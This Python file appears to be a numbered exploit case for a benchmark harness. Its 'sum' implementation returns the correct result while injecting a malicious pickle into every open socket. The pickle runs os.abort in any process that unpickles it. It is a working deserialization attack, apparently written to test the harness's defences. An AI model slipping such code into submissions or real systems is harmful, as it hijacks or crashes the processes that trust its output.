"""Sends a pickle that would run code in whoever unpickles what comes from a worker.

Source: exploit 65.
"""

import os
import pickle
import stat

import numpy as np

from harness import implementation


def right(x, dim):
    return np.asarray(np.sum(x, axis=dim)).astype(x.dtype)


class Bomb:
    def __reduce__(self):
        return os.abort, ()


def sockets():
    names = os.listdir("/proc/self/fd")
    return [
        int(one)
        for one in names
        if os.path.exists(f"/proc/self/fd/{one}") and stat.S_ISSOCK(os.stat(f"/proc/self/fd/{one}").st_mode)
    ]


@implementation("sum", backend="numpy")
def sends_a_pickle(x, *, dim):
    body = pickle.dumps(Bomb())
    for one in sockets():
        os.write(one, len(body).to_bytes(4, "little") + body)
    return right(x, dim)
